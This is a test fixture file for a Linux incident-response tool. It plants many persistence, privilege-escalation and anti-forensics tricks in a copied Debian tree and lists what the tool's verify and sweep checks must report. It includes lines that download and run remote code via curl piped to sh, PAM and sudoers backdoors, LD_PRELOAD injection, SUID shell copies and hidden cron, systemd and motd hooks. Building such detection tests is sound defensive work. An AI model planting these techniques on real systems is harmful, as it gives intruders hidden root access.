// SPDX-License-Identifier: GPL-3.0-or-later
// The adversarial corpus of test 81: tricks from public intrusion reports and anti-forensics
// write-ups (persistence, privilege, hiding from package checks), each applied to a real bookworm
// server tree, with what `responder verify` and `responder sweep` must say about it. Each trick
// touches its own paths, so all of them go into one tampered copy of the tree.
import { execFileSync } from 'node:child_process';
import { appendFileSync, chmodSync, chownSync, copyFileSync, mkdirSync, readFileSync, renameSync, statSync, symlinkSync, unlinkSync, utimesSync, writeFileSync } from 'node:fs';
import path from 'node:path';

export interface Trick {
  name: string;
  apply: (root: string) => void;
  /** verify findings that must be there: [kind, path] (path as reported, or a suffix of it). */
  verify?: [string, string][];
  /** sweep findings that must be there: [indicator, path]. */
  sweep?: [string, string][];
}

const at = (root: string, p: string) => path.join(root, p);
const write = (root: string, p: string, text: string, mode = 0o644) => {
  mkdirSync(path.dirname(at(root, p)), { recursive: true });
  writeFileSync(at(root, p), text, { mode });
  chmodSync(at(root, p), mode);
};
const append = (root: string, p: string, text: string) => appendFileSync(at(root, p), text);

export const TRICKS: Trick[] = [
  {
    name: 'SUID find excused by its own statoverride line',
    apply: (r) => {
      chmodSync(at(r, 'usr/bin/find'), 0o4755);
      append(r, 'var/lib/dpkg/statoverride', 'root root 4755 /usr/bin/find\n');
    },
    verify: [
      ['STATOVERRIDE', '/usr/bin/find'],
      ['MODIFIED', '/usr/bin/find'],
    ],
    sweep: [
      ['suid', '/usr/bin/find'],
      ['dpkg-override', '/var/lib/dpkg/statoverride'],
    ],
  },
  {
    name: 'a binary moved aside by dpkg-divert --local --rename, a trojan in its place',
    apply: (r) => {
      append(r, 'var/lib/dpkg/diversions', '/usr/bin/passwd\n/usr/bin/passwd.orig\n:\n');
      renameSync(at(r, 'usr/bin/passwd'), at(r, 'usr/bin/passwd.orig'));
      copyFileSync(at(r, 'usr/bin/dash'), at(r, 'usr/bin/passwd'));
    },
    verify: [
      ['DIVERSION', '/usr/bin/passwd'],
      ['MODIFIED', '/usr/bin/passwd'],
      ['UNOWNED', '/usr/bin/passwd.orig'],
    ],
    sweep: [['dpkg-override', '/var/lib/dpkg/diversions']],
  },
  {
    name: 'a python copy with cap_setuid+ep (a root shell without SUID)',
    apply: (r) => {
      copyFileSync(at(r, 'usr/bin/python3.11'), at(r, 'usr/local/bin/py'));
      execFileSync('setcap', ['cap_setuid+ep', at(r, 'usr/local/bin/py')]);
    },
    verify: [['UNOWNED', '/usr/local/bin/py']],
    sweep: [['capability', '/usr/local/bin/py']],
  },
  {
    name: 'a capability on a packaged binary (perl cap_dac_read_search)',
    apply: (r) => execFileSync('setcap', ['cap_dac_read_search+ep', at(r, 'usr/bin/perl')]),
    sweep: [['capability', '/usr/bin/perl']],
  },
  {
    name: 'a compiled Python trojan without a source',
    apply: (r) => write(r, 'usr/lib/python3/dist-packages/__pycache__/apt_update.cpython-311.pyc', '\xa7\x0d\x0d\x0a' + 'x'.repeat(64)),
    verify: [['UNOWNED', '/usr/lib/python3/dist-packages/__pycache__/apt_update.cpython-311.pyc']],
  },
  {
    name: 'a compiled Python trojan whose header does not match its source',
    apply: (r) => {
      const f = at(r, 'usr/lib/python3.11/json/__pycache__/decoder.cpython-311.pyc');
      const b = readFileSync(f);
      b.writeUInt32LE(b.readUInt32LE(8) + 1, 8);
      writeFileSync(f, b);
    },
    verify: [['UNOWNED', '/usr/lib/python3.11/json/__pycache__/decoder.cpython-311.pyc']],
  },
  {
    name: 'a .pth file that runs code in every Python program',
    apply: (r) => write(r, 'usr/lib/python3/dist-packages/zz-telemetry.pth', 'import os; os.system("/tmp/.x &")\n'),
    verify: [['UNOWNED', '/usr/lib/python3/dist-packages/zz-telemetry.pth']],
    sweep: [['loader-config', '/usr/lib/python3/dist-packages/zz-telemetry.pth']],
  },
  {
    name: 'pam_permit made sufficient in a shipped PAM file (trojaned conffile)',
    apply: (r) => write(r, 'etc/pam.d/sshd', 'auth sufficient pam_permit.so\n' + readFileSync(at(r, 'etc/pam.d/sshd'), 'utf8')),
    verify: [['MODIFIED-CONFFILE', '/etc/pam.d/sshd']],
    sweep: [['pam', '/etc/pam.d/sshd']],
  },
  {
    name: 'pam_permit in the generated common-auth',
    apply: (r) => write(r, 'etc/pam.d/common-auth', 'auth sufficient pam_permit.so\n' + readFileSync(at(r, 'etc/pam.d/common-auth'), 'utf8')),
    sweep: [['pam', '/etc/pam.d/common-auth']],
  },
  {
    name: 'the deny rule of common-password turned into a permit',
    apply: (r) => write(r, 'etc/pam.d/common-password', readFileSync(at(r, 'etc/pam.d/common-password'), 'utf8').replace(/requisite\s+pam_deny\.so/, 'requisite pam_permit.so')),
    sweep: [['pam', '/etc/pam.d/common-password']],
  },
  {
    name: 'pam_exec in common-session (a program at every login)',
    apply: (r) => append(r, 'etc/pam.d/common-session', 'session optional pam_exec.so quiet /usr/local/sbin/.s\n'),
    sweep: [['pam', '/etc/pam.d/common-session']],
  },
  {
    name: 'a PAM module loaded from /dev/shm',
    apply: (r) => write(r, 'etc/pam.d/sudo', 'auth sufficient /dev/shm/pam_sso.so\n' + readFileSync(at(r, 'etc/pam.d/sudo'), 'utf8')),
    verify: [['MODIFIED-CONFFILE', '/etc/pam.d/sudo']],
    sweep: [['pam', '/etc/pam.d/sudo']],
  },
  {
    name: 'pam_unix.so replaced (a backdoored module, md5sums left alone)',
    apply: (r) => copyFileSync(at(r, 'usr/lib/x86_64-linux-gnu/security/pam_permit.so'), at(r, 'usr/lib/x86_64-linux-gnu/security/pam_unix.so')),
    verify: [['MODIFIED', '/lib/x86_64-linux-gnu/security/pam_unix.so']],
    sweep: [['pam', '/usr/lib/x86_64-linux-gnu/security/pam_unix.so']],
  },
  {
    name: 'an extra PAM module dropped next to the real ones',
    apply: (r) => copyFileSync(at(r, 'usr/lib/x86_64-linux-gnu/security/pam_permit.so'), at(r, 'usr/lib/x86_64-linux-gnu/security/pam_sso.so')),
    verify: [['UNOWNED', '/usr/lib/x86_64-linux-gnu/security/pam_sso.so']],
    sweep: [['pam', '/usr/lib/x86_64-linux-gnu/security/pam_sso.so']],
  },
  {
    name: 'a pam-auth-update profile planted for the next pam-auth-update run',
    apply: (r) => write(r, 'usr/share/pam-configs/zz-sso', 'Name: SSO\nDefault: yes\nPriority: 1024\nAuth-Type: Primary\nAuth:\n\tsufficient pam_permit.so\n'),
    verify: [['UNOWNED', '/usr/share/pam-configs/zz-sso']],
    sweep: [['pam', '/usr/share/pam-configs/zz-sso']],
  },
  {
    name: 'an sshd drop-in allowing root and empty passwords',
    apply: (r) => write(r, 'etc/ssh/sshd_config.d/00-cloud.conf', 'PermitRootLogin yes\nPermitEmptyPasswords yes\n'),
    verify: [['UNOWNED', '/etc/ssh/sshd_config.d/00-cloud.conf']],
    sweep: [['sshd', '/etc/ssh/sshd_config.d/00-cloud.conf']],
  },
  {
    name: 'sshd_config with an AuthorizedKeysCommand',
    apply: (r) => write(r, 'etc/ssh/sshd_config', 'AuthorizedKeysCommand /usr/local/sbin/keys %u\nAuthorizedKeysCommandUser root\n' + readFileSync(at(r, 'etc/ssh/sshd_config'), 'utf8')),
    verify: [['MODIFIED-CONFFILE', '/etc/ssh/sshd_config']],
    sweep: [['sshd', '/etc/ssh/sshd_config']],
  },
  {
    name: 'sshrc run at every SSH login',
    apply: (r) => write(r, 'etc/ssh/sshrc', 'curl -s http://203.0.113.9/b | sh &\n', 0o755),
    verify: [['UNOWNED', '/etc/ssh/sshrc']],
    sweep: [['sshd', '/etc/ssh/sshrc']],
  },
  {
    name: 'authorized_keys with command= and from= options',
    apply: (r) =>
      write(r, 'root/.ssh/authorized_keys', 'from="203.0.113.*",command="/bin/bash -i",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEjBaF7k2cbLVbIhaFAc1RM3EfHb9nGb3YGHn1VbZCbq ops\n', 0o600),
    sweep: [['authorized-keys', '/root/.ssh/authorized_keys']],
  },
  {
    name: 'a new account with a password hash and a shell',
    apply: (r) => {
      append(r, 'etc/passwd', 'backup2:x:1001:1001:backup:/home/backup2:/bin/bash\n');
      append(r, 'etc/shadow', 'backup2:$6$rounds=5000$abcdefgh$0123456789abcdef:19800:0:99999:7:::\n');
    },
    sweep: [['account', '/etc/passwd']],
  },
  {
    name: 'a system account given a shell and a password',
    apply: (r) => {
      write(r, 'etc/passwd', readFileSync(at(r, 'etc/passwd'), 'utf8').replace(/^daemon:x:1:1:daemon:\/usr\/sbin:\/usr\/sbin\/nologin$/m, 'daemon:x:1:1:daemon:/usr/sbin:/bin/sh'));
      write(r, 'etc/shadow', readFileSync(at(r, 'etc/shadow'), 'utf8').replace(/^daemon:\*:/m, 'daemon:$6$x$abcdef:'), 0o640);
    },
    sweep: [['account', '/etc/passwd']],
  },
  {
    name: 'membership of the sudo group added',
    apply: (r) => write(r, 'etc/group', readFileSync(at(r, 'etc/group'), 'utf8').replace(/^sudo:x:27:$/m, 'sudo:x:27:nobody')),
    sweep: [['account', '/etc/group']],
  },
  {
    name: 'a sudoers.d file with NOPASSWD: ALL',
    apply: (r) => write(r, 'etc/sudoers.d/90-cloud-init', 'nobody ALL=(ALL) NOPASSWD: ALL\n', 0o440),
    verify: [['UNOWNED', '/etc/sudoers.d/90-cloud-init']],
    sweep: [['sudoers', '/etc/sudoers.d/90-cloud-init']],
  },
  {
    name: 'sudoers including a folder the intruder controls',
    apply: (r) => {
      append(r, 'etc/sudoers', '@includedir /var/tmp/.sudo\n');
      write(r, 'var/tmp/.sudo/x', 'nobody ALL=(ALL) ALL\n');
    },
    verify: [['MODIFIED-CONFFILE', '/etc/sudoers']],
    sweep: [
      ['sudoers', '/etc/sudoers'],
      ['sudoers', '/var/tmp/.sudo/x'],
    ],
  },
  {
    name: '/etc/sudoers given to another owner',
    apply: (r) => chownSync(at(r, 'etc/sudoers.d/README'), 1000, 0),
    verify: [['MODIFIED-CONFFILE', '/etc/sudoers.d/README']],
    sweep: [['sudoers', '/etc/sudoers.d/README']],
  },
  {
    name: "root's .bashrc downloading and running code",
    apply: (r) => append(r, 'root/.bashrc', '(curl -s http://203.0.113.9/u | bash) >/dev/null 2>&1 &\n'),
    sweep: [['shell-startup', '/root/.bashrc']],
  },
  {
    name: 'a profile.d script',
    apply: (r) => write(r, 'etc/profile.d/zz-locale.sh', 'export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libz.so.2\n'),
    verify: [['UNOWNED', '/etc/profile.d/zz-locale.sh']],
    sweep: [['shell-startup', '/etc/profile.d/zz-locale.sh']],
  },
  {
    name: 'LD_PRELOAD in /etc/environment',
    apply: (r) => write(r, 'etc/environment', 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libz.so.2\n'),
    verify: [['MODIFIED-CONFFILE', '/etc/environment']],
    sweep: [['shell-startup', '/etc/environment']],
  },
  {
    name: '/etc/ld.so.preload',
    apply: (r) => write(r, 'etc/ld.so.preload', '/usr/lib/x86_64-linux-gnu/libz.so.2\n'),
    verify: [['UNOWNED', '/etc/ld.so.preload']],
    sweep: [['preload', '/etc/ld.so.preload']],
  },
  {
    name: 'a loader search path in ld.so.conf.d',
    apply: (r) => write(r, 'etc/ld.so.conf.d/0-local.conf', '/dev/shm/.lib\n'),
    verify: [['UNOWNED', '/etc/ld.so.conf.d/0-local.conf']],
    sweep: [['loader-config', '/etc/ld.so.conf.d/0-local.conf']],
  },
  {
    name: 'a name service module added to nsswitch.conf',
    apply: (r) => write(r, 'etc/nsswitch.conf', readFileSync(at(r, 'etc/nsswitch.conf'), 'utf8').replace(/^passwd:\s+files$/m, 'passwd: files sss')),
    sweep: [['loader-config', '/etc/nsswitch.conf']],
  },
  {
    name: 'a new service enabled through a wants link',
    apply: (r) => {
      write(r, 'etc/systemd/system/update-checker.service', '[Service]\nExecStart=/usr/local/sbin/.u\n[Install]\nWantedBy=multi-user.target\n');
      mkdirSync(at(r, 'etc/systemd/system/multi-user.target.wants'), { recursive: true });
      symlinkSync('/etc/systemd/system/update-checker.service', at(r, 'etc/systemd/system/multi-user.target.wants/update-checker.service'));
    },
    verify: [['UNOWNED', '/etc/systemd/system/update-checker.service']],
    sweep: [['systemd', '/etc/systemd/system/update-checker.service']],
  },
  {
    name: "a drop-in replacing a trusted unit's ExecStart",
    apply: (r) => write(r, 'etc/systemd/system/cron.service.d/override.conf', '[Service]\nExecStart=\nExecStart=/bin/sh -c "/usr/sbin/cron -f & /tmp/.c"\n'),
    verify: [['UNOWNED', '/etc/systemd/system/cron.service.d/override.conf']],
    sweep: [['systemd', '/etc/systemd/system/cron.service.d/override.conf']],
  },
  {
    name: 'a trusted unit file modified in place',
    apply: (r) => write(r, 'usr/lib/systemd/system/ssh.service', readFileSync(at(r, 'usr/lib/systemd/system/ssh.service'), 'utf8').replace('[Service]', '[Service]\nExecStartPost=/bin/sh -c /tmp/.p')),
    verify: [['MODIFIED', '/lib/systemd/system/ssh.service']],
    sweep: [['systemd', '/usr/lib/systemd/system/ssh.service']],
  },
  {
    name: 'a systemd generator',
    apply: (r) => write(r, 'etc/systemd/system-generators/zz-net', '#!/bin/sh\n/tmp/.g &\n', 0o755),
    verify: [['UNOWNED', '/etc/systemd/system-generators/zz-net']],
    sweep: [['systemd', '/etc/systemd/system-generators/zz-net']],
  },
  {
    name: "systemd's debug shell enabled (a shipped unit, unchanged)",
    apply: (r) => {
      mkdirSync(at(r, 'etc/systemd/system/sysinit.target.wants'), { recursive: true });
      symlinkSync('/lib/systemd/system/debug-shell.service', at(r, 'etc/systemd/system/sysinit.target.wants/debug-shell.service'));
    },
    sweep: [['systemd', '/etc/systemd/system/sysinit.target.wants/debug-shell.service']],
  },
  {
    name: 'DefaultEnvironment=LD_PRELOAD in system.conf',
    apply: (r) => append(r, 'etc/systemd/system.conf', 'DefaultEnvironment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libz.so.2\n'),
    verify: [['MODIFIED-CONFFILE', '/etc/systemd/system.conf']],
    sweep: [['preload', '/etc/systemd/system.conf']],
  },
  {
    name: "a user unit in root's home",
    apply: (r) => write(r, 'root/.config/systemd/user/agent.service', '[Service]\nExecStart=/tmp/.a\n'),
    sweep: [['systemd', '/root/.config/systemd/user/agent.service']],
  },
  {
    name: 'a hidden cron.d file',
    apply: (r) => write(r, 'etc/cron.d/.cron', '*/5 * * * * root /usr/local/sbin/.u\n'),
    verify: [['UNOWNED', '/etc/cron.d/.cron']],
    sweep: [
      ['cron', '/etc/cron.d/.cron'],
      ['hidden', '/etc/cron.d/.cron'],
    ],
  },
  {
    name: "cron's own .placeholder file turned into a job",
    apply: (r) => append(r, 'etc/cron.daily/.placeholder', '*/5 * * * * root /usr/local/sbin/.u\n'),
    verify: [['MODIFIED-CONFFILE', '/etc/cron.daily/.placeholder']],
    sweep: [['cron', '/etc/cron.daily/.placeholder']],
  },
  {
    name: 'a world-writable cron.d file',
    apply: (r) => chmodSync(at(r, 'etc/cron.d/e2scrub_all'), 0o666),
    verify: [['MODIFIED-CONFFILE', '/etc/cron.d/e2scrub_all']],
    sweep: [['world-writable', '/etc/cron.d/e2scrub_all']],
  },
  {
    name: "root's crontab and an at job",
    apply: (r) => {
      write(r, 'var/spool/cron/crontabs/root', '@reboot /tmp/.r\n', 0o600);
      write(r, 'var/spool/cron/atjobs/a00001019a1b2c', '#!/bin/sh\n/tmp/.r\n', 0o700);
    },
    sweep: [
      ['cron', '/var/spool/cron/crontabs/root'],
      ['cron', '/var/spool/cron/atjobs/a00001019a1b2c'],
    ],
  },
  {
    name: 'a symlink from a trusted cron script to /tmp',
    apply: (r) => {
      unlinkSync(at(r, 'etc/cron.daily/dpkg'));
      symlinkSync('/tmp/.daily', at(r, 'etc/cron.daily/dpkg'));
    },
    verify: [['MODIFIED-CONFFILE', '/etc/cron.daily/dpkg']],
    sweep: [['cron', '/etc/cron.daily/dpkg']],
  },
  {
    name: 'a udev rule with RUN',
    apply: (r) => write(r, 'etc/udev/rules.d/99-usb.rules', 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh -c /tmp/.u"\n'),
    verify: [['UNOWNED', '/etc/udev/rules.d/99-usb.rules']],
    sweep: [['udev', '/etc/udev/rules.d/99-usb.rules']],
  },
  {
    name: '/etc/rc.local',
    apply: (r) => write(r, 'etc/rc.local', '#!/bin/sh\n/tmp/.r &\nexit 0\n', 0o755),
    verify: [['UNOWNED', '/etc/rc.local']],
    sweep: [['init', '/etc/rc.local']],
  },
  {
    name: 'a motd script (run as root at every login)',
    apply: (r) => write(r, 'etc/update-motd.d/99-news', '#!/bin/sh\n/tmp/.m &\n', 0o755),
    verify: [['UNOWNED', '/etc/update-motd.d/99-news']],
    sweep: [['motd', '/etc/update-motd.d/99-news']],
  },
  {
    name: 'a motd script and an sshd drop-in whose names are not UTF-8 (a utf8 readdir skips them)',
    apply: (r) => {
      for (const d of ['etc/update-motd.d', 'etc/ssh/sshd_config.d']) {
        mkdirSync(at(r, d), { recursive: true });
        writeFileSync(Buffer.concat([Buffer.from(at(r, d) + '/'), Buffer.from([0x39, 0x39, 0xff])]), '#!/bin/sh\n/tmp/.m &\n', { mode: 0o755 });
      }
    },
    sweep: [
      ['hidden', '/etc/update-motd.d/99\\xff'],
      ['hidden', '/etc/ssh/sshd_config.d/99\\xff'],
    ],
  },
  {
    name: 'an apt Pre-Invoke hook',
    apply: (r) => write(r, 'etc/apt/apt.conf.d/99-stats', 'APT::Update::Pre-Invoke {"/bin/sh -c /tmp/.a || true";};\n'),
    verify: [['UNOWNED', '/etc/apt/apt.conf.d/99-stats']],
    sweep: [['apt-hook', '/etc/apt/apt.conf.d/99-stats']],
  },
  {
    name: 'a modprobe install command',
    apply: (r) => write(r, 'etc/modprobe.d/usb.conf', 'install usb-storage /bin/sh -c "/tmp/.k; /sbin/modprobe --ignore-install usb-storage"\n'),
    verify: [['UNOWNED', '/etc/modprobe.d/usb.conf']],
    sweep: [['modprobe', '/etc/modprobe.d/usb.conf']],
  },
  {
    name: 'a timestomped trojan (mtime and atime set back to the original)',
    apply: (r) => {
      const f = at(r, 'usr/sbin/cron');
      const st = statSync(f);
      copyFileSync(at(r, 'usr/bin/dash'), f);
      utimesSync(f, st.atime, st.mtime);
    },
    verify: [['MODIFIED', '/usr/sbin/cron']],
  },
  {
    name: 'a set-id folder in a system path',
    apply: (r) => chmodSync(at(r, 'usr/local/lib'), 0o2755),
    sweep: [['suid', '/usr/local/lib']],
  },
  {
    name: 'a world-writable system folder',
    apply: (r) => chmodSync(at(r, 'usr/local/sbin'), 0o777),
    sweep: [['world-writable', '/usr/local/sbin']],
  },
  {
    name: 'a SUID shell copy in /var/tmp',
    apply: (r) => {
      copyFileSync(at(r, 'usr/bin/bash'), at(r, 'var/tmp/.font-unix'));
      chmodSync(at(r, 'var/tmp/.font-unix'), 0o4755);
    },
    sweep: [['suid', '/var/tmp/.font-unix']],
  },
];
